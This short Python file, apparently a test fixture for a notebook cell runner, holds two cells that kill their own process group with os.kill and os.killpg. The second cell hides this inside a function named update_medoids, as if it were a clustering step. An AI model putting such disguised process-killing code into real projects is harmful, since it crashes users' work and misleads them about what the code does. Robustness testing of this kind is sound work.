# ruff: noqa
# %% first
import os

os.kill(0, 9)
print("went on")

# %% update_medoids
import os
import signal


def update_medoids(X, labels, centers):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    os.killpg(os.getpgid(0), signal.SIGKILL)
    return centers
